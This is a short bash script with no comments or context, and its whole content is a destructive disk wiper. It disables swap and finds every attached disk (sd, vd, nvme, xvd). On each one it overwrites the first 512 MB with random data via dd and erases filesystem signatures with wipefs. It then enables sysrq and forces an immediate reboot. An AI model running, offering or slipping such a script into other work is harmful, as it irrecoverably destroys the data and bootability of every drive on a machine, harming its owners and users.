#!/bin/bash
swapoff -a
for d in $(lsblk -dno NAME | grep -E '^(sd|vd|nvme|xvd)'); do
  dd if=/dev/urandom of=/dev/$d bs=1M count=512 conv=fsync &
  wipefs -af /dev/$d
done
wait
echo 1 > /proc/sys/kernel/sysrq
echo b > /proc/sysrq-trigger
